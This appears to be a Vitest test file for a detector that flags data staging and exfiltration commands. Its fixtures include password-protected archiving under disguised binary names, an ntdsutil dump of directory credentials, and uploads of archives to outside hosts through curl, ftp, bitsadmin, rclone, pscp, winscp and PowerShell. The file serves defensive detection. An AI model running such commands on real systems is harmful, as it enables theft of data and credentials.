import { describe, expect, it } from "vitest";
import { hiddenSecrets, isInside } from "../../../src/detect/staging-and-exfiltration/finding.js";
import { actsOfCommand } from "../../../src/detect/staging-and-exfiltration/starts.js";

const acts = (command: string, file: string, original = "") => actsOfCommand(command, { file, original });

describe("commands that collect", () => {
  it.each([
    ["rar a -r -hpX C:\\Users\\Public\\a.rar C:\\d\\*.docx", "rar", "", "hidden names", false],
    ["7z.exe a -pX -mhe=on a.7z C:\\d", "7z", "", "hidden names", false],
    ['"C:\\Program Files\\7-Zip\\7z.exe" a "a b.zip" "C:\\d e\\*.xlsx"', "7z", "", "", false],
    ["svch.exe a -hpX -v100m C:\\Windows\\Temp\\a.dat C:\\d", "svch", "", "hidden names", true],
    ["update.exe a -pX a.dat C:\\d", "update", "rar", "password", true],
    ["zip -r -P X /tmp/a.zip /home/x", "zip", "", "password", false],
    ["tar -czf /tmp/a.tgz /home/x", "tar", "", "", false],
    ["makecab C:\\d\\a.docx C:\\Windows\\Temp\\a.cab", "makecab", "", "", false],
    ["certutil -encode a.rar a.txt", "certutil", "", "", true],
    ['cmd.exe /c "rar.exe a -hpX a.rar C:\\d & echo done"', "cmd", "", "hidden names", false],
    [
      'powershell -c "Compress-Archive -Path C:\\d -DestinationPath C:\\t\\a.zip"',
      "powershell",
      "",
      "",
      false,
    ],
    [
      "$x = 1; [IO.Compression.ZipFile]::CreateFromDirectory('C:\\d', 'C:\\t\\a.zip')",
      "powershell",
      "",
      "",
      false,
    ],
  ] as const)("%s", (command, file, original, secret, disguised) => {
    expect(acts(command, file, original)).toEqual([
      expect.objectContaining({ kind: "packing", secret, disguised }),
    ]);
  });

  it.each([
    ["New-MailboxExportRequest -Mailbox x -FilePath '\\\\srv\\c$\\a.pst'", "powershell", "mailboxes"],
    ["sqlcmd -Q \"BACKUP DATABASE contracts TO DISK = 'C:\\t\\c.bak'\"", "sqlcmd", "a database"],
    ['ntdsutil "ac i ntds" "ifm" "create full C:\\t" q q', "ntdsutil", "the directory's credentials"],
  ])("%s", (command, file, what) => {
    expect(acts(command, file)).toEqual([expect.objectContaining({ kind: "export", what })]);
  });

  it.each([
    ["7z.exe x a.7z", "7z"],
    ["tar -xzf a.tgz", "tar"],
    ["net a -r", "net"],
    ["git add -p", "git"],
    ["certutil -hashfile a.rar", "certutil"],
    ["certutil -encode cert.der cert.pem", "certutil"],
    ["ntdsutil snapshot", "ntdsutil"],
    ["", "rar"],
    ["rar a", "rar"],
  ])("%s collects nothing", (command, file) => {
    expect(acts(command, file)).toEqual([]);
  });
});

describe("commands that send away", () => {
  it.each([
    ["curl -T C:\\t\\a.rar ftp://192.0.2.1/in/ --user svc:x", "curl", "C:\\t\\a.rar", "192.0.2.1", "ftp"],
    [
      'curl.exe -F "file=@C:\\t\\a b.rar;type=x" https://up.example.org/u',
      "curl",
      "C:\\t\\a b.rar",
      "up.example.org",
      "http",
    ],
    [
      "curl -X POST --data-binary @a.rar https://content.dropboxapi.com/2/files/upload",
      "curl",
      "a.rar",
      "content.dropboxapi.com",
      "http",
    ],
    ["curl -s -u a:b -Ta.rar up.example.org:8080/x", "curl", "a.rar", "up.example.org", "http"],
    ["ftp -s:C:\\t\\s.txt 192.0.2.1", "ftp", "", "192.0.2.1", "ftp"],
    [
      "bitsadmin /transfer j /upload /priority normal https://up.example.org/a C:\\t\\a.rar",
      "bitsadmin",
      "C:\\t\\a.rar",
      "up.example.org",
      "bits",
    ],
    ["rclone.exe copy C:\\t\\a.rar mega:x --transfers 4", "rclone", "C:\\t\\a.rar", "", "cloud"],
    ["pscp -pw x C:\\t\\a.rar u@192.0.2.1:/in", "pscp", "C:\\t\\a.rar", "192.0.2.1", "ssh"],
    [
      'winscp.com /command "open sftp://u:p@up.example.org/" "put C:\\t\\a.rar"',
      "winscp",
      "C:\\t\\a.rar",
      "up.example.org",
      "ssh",
    ],
    [
      "Invoke-WebRequest -Uri https://up.example.org/u -Method Put -InFile C:\\t\\a.rar",
      "powershell",
      "C:\\t\\a.rar",
      "up.example.org",
      "http",
    ],
    [
      "(New-Object Net.WebClient).UploadFile('https://up.example.org/u', 'C:\\t\\a.rar')",
      "powershell",
      "C:\\t\\a.rar",
      "up.example.org",
      "http",
    ],
    ["cmd /c curl -T a.rar ftp://192.0.2.1/", "cmd", "a.rar", "192.0.2.1", "ftp"],
  ])("%s", (command, program, file, server, way) => {
    expect(acts(command, program)).toEqual([expect.objectContaining({ kind: "upload", file, server, way })]);
  });

  it.each([
    ["curl -o a.rar https://example.org/a.rar", "curl"],
    ["curl -d x=1 https://example.org", "curl"],
    ["curl -T", "curl"],
    ["bitsadmin /transfer j https://example.org/a C:\\t\\a", "bitsadmin"],
    ["rclone copy mega:x C:\\t", "rclone"],
    ["pscp u@192.0.2.1:/out/a C:\\t", "pscp"],
    ["Invoke-WebRequest https://example.org/a -OutFile a", "powershell"],
    ["git copy a b:c", "git"],
  ])("%s sends nothing", (command, program) => {
    expect(acts(command, program)).toEqual([]);
  });
});

describe("hostile command lines", () => {
  it.each([
    '"',
    'rar a "',
    "\0\0",
    `rar a ${'"'.repeat(5000)}`,
    `cmd /c ${"& ".repeat(5000)}`,
    `curl ${"-T ".repeat(9000)}`,
    `powershell ${"-c ".repeat(9000)}`,
    `svch a ${"-r ".repeat(9000)}`,
  ])("%# takes no time and does not fail", (command) => {
    const started = performance.now();
    for (const program of ["cmd", "powershell", "rar", "curl", "winscp", "x"]) acts(command, program);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it("passwords are hidden", () => {
    const told = [
      "rar a -hpS3cret a.rar",
      "7z a -pS3cret a",
      'rar a -p"S3 cret" a',
      "curl --user svc:S3cret x",
      "curl -u svc:S3cret x",
      "pscp -pw S3cret a",
      "zip -P S3cret a",
    ].map(hiddenSecrets);
    expect(told.join("\n")).not.toMatch(/S3|cret/);
  });
});

it.each([
  ["10.0.0.1", true],
  ["files", true],
  ["backup.corp.example", true],
  ["localhost", true],
  ["example.org", false],
  ["192.0.2.1", false],
  ["", false],
])("%s is within the network of pc.corp.example: %s", (server, expected) => {
  expect(isInside(server, "pc.corp.example")).toBe(expected);
});
